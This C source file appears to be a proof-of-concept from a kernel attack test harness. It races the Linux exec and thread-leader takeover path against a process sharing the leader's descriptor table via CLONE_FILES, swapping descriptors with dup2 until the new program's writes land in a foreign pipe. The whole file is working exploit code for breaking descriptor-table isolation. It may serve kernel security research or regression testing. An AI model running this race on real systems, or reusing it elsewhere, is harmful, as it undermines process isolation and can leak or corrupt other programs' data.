/* A leader waits until its descriptor table's other user stands still; a thread with a table of its own takes over its number by an exec, and
 * the new program's write is taken for the leader's, whose table has one user left.
 */
#include "../attack.h"
#include <linux/sched.h>

enum { NUMBER = 40, READ = 50, WRITE = 51, NULL_DEVICE = 52 };

static volatile int *going;
static int file;

static void on_cpu(int cpu)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu, &set);
    sched_setaffinity(0, sizeof set, &set);
}

/* In the kernel for half a second, where only SIGKILL ends it: it does not stop. */
static int busy(void *unused)
{
    size_t size = 8ul << 30;
    alarm(2); /* no PDEATHSIG: the leader's end would be its own */
    char *p = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    madvise(p, size, MADV_NOHUGEPAGE);
    *going = 1;
    madvise(p, size, 22 /* MADV_POPULATE_READ */);
    for (;;)
        pause();
    return unused != NULL;
}

static int taker(void *unused)
{
    char *arguments[] = {"taker", "second", NULL};
    while (*going != 2)
        ;
    usleep(20000);
    execv("/proc/self/exe", arguments);
    return unused != NULL;
}

static void *exchanger(void *unused)
{
    on_cpu(1);
    for (;;) {
        dup2(WRITE, NUMBER);
        dup2(file, NUMBER);
    }
    return unused;
}

static void second(void)
{
    pthread_t t;
    int won = 0;
    file = memfd_create("plain", 0);
    write(WRITE, "A", 1);
    dup2(file, NUMBER);
    pthread_create(&t, NULL, exchanger, NULL);
    for (double until = tries_until(1.5); now() < until && !won;) {
        for (int i = 0; i < 50; i++)
            write(NUMBER, "B", 1);
        won = foreign(READ, 'A');
    }
    end(won, "who waits is forgotten when it is gone");
}

int main(int argc, char **argv)
{
    static char stacks[2][65536];
    int p[2];
    if (argc > 1 && argv[1])
        second();
    going = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    pipe2(p, O_NONBLOCK);
    dup2(p[0], READ);
    dup2(p[1], WRITE);
    dup2(open("/dev/full", O_WRONLY), NULL_DEVICE);
    clone(taker, stacks[0] + 65536, CLONE_VM | CLONE_SIGHAND | CLONE_THREAD, NULL);
    clone(busy, stacks[1] + 65536, CLONE_FILES | SIGCHLD, NULL);
    while (!*going)
        ;
    usleep(2000);
    *going = 2;
    for (;;)
        write(NULL_DEVICE, "x", 1);
}
